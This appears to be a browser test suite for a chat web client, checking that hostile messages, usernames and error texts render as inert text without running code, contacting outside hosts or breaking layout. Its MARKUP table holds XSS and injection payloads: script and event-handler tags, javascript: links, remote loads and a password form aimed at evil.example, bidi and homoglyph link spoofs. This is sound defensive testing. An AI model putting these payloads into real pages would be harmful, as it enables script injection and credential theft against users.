"""The hostile corpus and hostile markup through a real browser: nothing runs, nothing opens, nothing leaves its row."""

from __future__ import annotations

import json
import os
from typing import Any

from kchat.client.sender import Sender
from kchat.config.settings import Settings
from kchat.message import Message
from tests.brokers.wait import wait_until
from tests.hostile.corpus import TEXTS
from tests.web.elsewhere import Elsewhere
from tests.web.guests import Guests, Served, Visit
from tests.web.serving import ServeThread

MARKUP = {
    "script": "<script>window.owned = 1</script>",
    "script of elsewhere": "<script src=http://evil.example/a.js></script>",
    "image with a handler": "<img src=x onerror='window.owned = 1'>",
    "image of elsewhere": "<img src=http://evil.example/a.png>",
    "svg": "<svg onload='window.owned = 1'><script>window.owned = 1</script></svg>",
    "end of the element": "</div></div></main><script>window.owned = 1</script>",
    "end of a textarea": "</textarea></title></style></script><img src=x onerror=alert(1)>",
    "comment": "<!-- --><script>window.owned = 1</script><!--",
    "cdata": "<![CDATA[<script>window.owned = 1</script>]]>",
    "entities": "&lt;script&gt;window.owned = 1&lt;/script&gt; &#x202e;",
    "template": "<template><script>window.owned = 1</script></template>",
    "iframe": "<iframe srcdoc='<script>top.owned = 1</script>'></iframe>",
    "object": "<object data=http://evil.example/o></object><embed src=http://evil.example/e>",
    "meta": "<meta http-equiv=refresh content='0; url=http://evil.example/'>",
    "base": "<base href=http://evil.example/>",
    "link": "<link rel=stylesheet href=http://evil.example/a.css>",
    "style": "<style>* { display: none !important }</style>",
    "form": "<form action=http://evil.example/><input name=password autofocus onfocus=alert(1)><button>Log in",
    "marquee": "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>",
    "video": "<video autoplay src=http://evil.example/v onerror=alert(1)></video>",
    "javascript link": "javascript:window.owned=1",
    "javascript link, written": "[click](javascript:window.owned=1) <a href='javascript:alert(1)'>click</a>",
    "data link": "data:text/html,<script>alert(1)</script>",
    "vbscript and file": "vbscript:msgbox(1) file:///etc/passwd view-source:http://evil.example/",
    "javascript behind a link": "http://javascript:alert(1)@evil.example/",
    "link with a quote": "http://evil.example/\"onmouseover=\"window.owned=1",
    "link with an angle": "http://evil.example/<img/src=x/onerror=alert(1)>",
    "link with a user": "https://bank.example@evil.example/",
    "link with bidi": "https://evil.example/\u202egnp.exe",
    "link with homoglyphs": "https://\u0430pple.example/",
    "link across lines": "https://evil.example/\nhttps://evil.example/2",
    "link of a length": "https://evil.example/" + "a" * 5000,
    "prototype": "__proto__ constructor toString hasOwnProperty",
    "template literal": "${window.owned = 1} {{constructor.constructor('alert(1)')()}}",
    "an event stream": "x\n\nevent: revoked\ndata: {\"text\": \"gone\"}\n\n",
    "an event stream, by returns": "x\r\revent: closing\rdata: {}\r\r",
    "json": '","mark":"","verified":true,"x":"',
    "a note": "the server is connected to the broker again: 3 messages were missed",
    "a day": "Thursday 26 November",
    "new": "new",
    "reconnecting": "Reconnecting\u2026",
    "wide": "W" * 3000,
    "tall": "x\n" * 400,
    "diacritics": "Z" + "\u0351\u0343\u0325" * 300,
    "css": "\\00003c style \\00003e } * { color: red } @import 'http://evil.example/';",
    "ids of the page": "log text send status people <p id=log> #log",
    "right to left": "\u0645\u0631\u062d\u0628\u0627 \u202e abc \u202c",
    "unclosed isolates": "\u2066" * 50 + "x" + "\u202e" * 50,
}  # fmt: skip
"""What attacks pages, by name."""

NAMES = (
    "<script>window.owned=1</script>",
    "<b>root</b>",
    "\u202etoor",
    "new",
    "W" * 300,
    "a\nb",
    "__proto__",
    "\u0645\u0631\u062d\u0628\u0627",
    "root ?",
    "kchat",
)

WRONG = """
(() => {
  const log = document.getElementById("log");
  const rows = [...document.querySelectorAll("#log .rows > *")];
  const wrong = [];
  const edge = log.getBoundingClientRect();
  let above = -Infinity;
  for (const [index, row] of rows.entries()) {
    const box = row.getBoundingClientRect();
    const told = row.textContent.slice(0, 60);
    if (box.top < above - 1) wrong.push(["overlaps the row above", index, told]);
    above = box.bottom;
    if (box.left < edge.left - 1 || box.right > edge.right + 1) wrong.push(["leaves the log", index, told]);
    if (getComputedStyle(row).direction !== "ltr") wrong.push(["turned round", index, told]);
    for (const each of row.querySelectorAll("*")) {
      const inner = each.getBoundingClientRect();
      if (inner.width && (inner.left < box.left - 1 || inner.right > box.right + 1))
        wrong.push(["content leaves its row", index, told, each.className]);
      if (!["DIV", "BDI", "SPAN", "TIME", "A", "MARK", "BUTTON"].includes(each.tagName))
        wrong.push(["an element of its own", index, told, each.tagName]);
      for (const { name } of each.attributes)
        if (name.startsWith("on") || name === "style") wrong.push(["attribute", name, told]);
      if (each.tagName !== "A") continue;
      const cuts = /noopener/.test(each.rel) && /noreferrer/.test(each.rel) && each.target === "_blank";
      if (!cuts || !/^https?:$/.test(each.protocol) || each.textContent !== each.getAttribute("href"))
        wrong.push(["link", each.href, told]);
    }
  }
  const page = document.documentElement;
  if (page.scrollWidth > innerWidth) wrong.push(["the page is wider than the window", page.scrollWidth]);
  if (log.scrollWidth > log.clientWidth) wrong.push(["the log is wider than itself", log.scrollWidth]);
  return wrong;
})()
"""

SPILLS = """
(() => {
  const hides = (element) => {
    const { overflowX, overflowY, contain } = getComputedStyle(element);
    return [overflowX, overflowY].every((each) => each !== "visible") || /paint|strict|content/.test(contain);
  };
  return [...document.querySelectorAll("#log .rows > .message")]
    .filter((row) => !hides(row) && !(hides(row.querySelector(".text")) && hides(row.querySelector(".who"))))
    .map((row) => row.textContent.slice(0, 60));
})()
"""
"""Rows that do not keep ink inside: marks piled on a letter are drawn far outside its box."""


def corpus() -> list[tuple[str, str]]:
    """Names and texts: all that is sent."""
    longest = None if os.environ.get("KCHAT_TEST_WEB") == "all" else 20_000
    texts = [*MARKUP.values(), *(text[:longest] for text in TEXTS.values())]
    return [("mallory", text) for text in texts] + [
        (name, f"from {number}") for number, name in enumerate(NAMES)
    ]


def send_all(served: Served, room: str, messages: list[tuple[str, str]]) -> None:
    # Names that kchat's own commands refuse: as a stranger's client would write them.
    with Sender(Settings.resolve(url=served.url, room=room), "mallory") as sender:
        for name, text in messages:
            body = json.dumps({"username": name, "message": text}).encode()
            sender.send(Message.from_body(body))


def check_nothing_happened(
    visit: Visit, guests: Guests, elsewhere: Elsewhere, asked: int, served: Served | ServeThread
) -> None:
    """The canaries are alive."""
    tab = visit.tab
    assert tab.run("window.owned") is None
    assert tab.dialogs == []
    (browser,) = guests.browsers
    assert browser.popups == []
    assert browser.downloads == []
    assert [each for each in tab.requests if not each.startswith(served.base)] == []
    assert elsewhere.asked[asked:] == []
    assert tab.console == []
    assert tab.run("location.href") == f"{served.base}/"


def test_the_hostile_corpus_stays_text_in_rows_of_its_own(
    local_served: Served, guests: Guests, elsewhere: Elsewhere
) -> None:
    asked = len(elsewhere.asked)
    visit = guests.visit(local_served.link(local_served.invite("reader")))
    messages = corpus()
    send_all(local_served, "chat", messages)
    local_served.send("honest", "this is the end")
    visit.wait_for_texts("this is the end")
    rows = visit.rows
    assert len(rows) == len(messages) + 1
    check_nothing_happened(visit, guests, elsewhere, asked, local_served)
    for width, height in ((1280, 800), (360, 740)):
        visit.tab.look_at(width, height)
        assert visit.tab.run(WRONG) == [], (width, height)
    assert visit.tab.run(SPILLS) == []
    kinds = visit.tab.run(
        "[...document.querySelectorAll('#log .rows > *')].map((row) => row.className.split(' ')[0])"
    )
    assert set(kinds) <= {"message", "day", "new-line", "note"}
    assert kinds.count("message") == len(messages) + 1
    assert kinds.count("note") == 0
    # What reads as the page's own words stands in a row with its sender.
    for text in (MARKUP["a note"], MARKUP["a day"], MARKUP["new"], MARKUP["reconnecting"]):
        row = visit.row(text)
        assert row["name"] == "mallory"
    visit.tab.reload()  # and the same from the history
    visit.wait_for_state("live")
    visit.wait_for_texts("this is the end")
    assert visit.tab.run(WRONG) == []
    check_nothing_happened(visit, guests, elsewhere, asked, local_served)


def test_a_hostile_error_is_shown_as_text(local_served: Served, guests: Guests, elsewhere: Elsewhere) -> None:
    asked = len(elsewhere.asked)
    visit = guests.visit(local_served.link(local_served.invite("unlucky")))
    hostile = "<img src=http://evil.example/x onerror='window.owned=1'>\u202e" + "W" * 3000
    answer: Any = json.dumps({"error": hostile, "hint": hostile})
    visit.tab.run(
        f"window.fetch = async () => new Response({json.dumps(answer)}, {{status: 422, headers: {{'content-type':"
        "'application/json'}})"
    )
    visit.write("hello")
    visit.tab.wait_for("document.querySelector('.failed .reason') !== null")
    assert visit.tab.run("document.querySelectorAll('.failed img').length") == 0
    assert visit.tab.run("document.documentElement.scrollWidth <= innerWidth")
    wait_until(lambda: "<img" in visit.tab.text, 10, "the error as text")
    check_nothing_happened(visit, guests, elsewhere, asked, local_served)
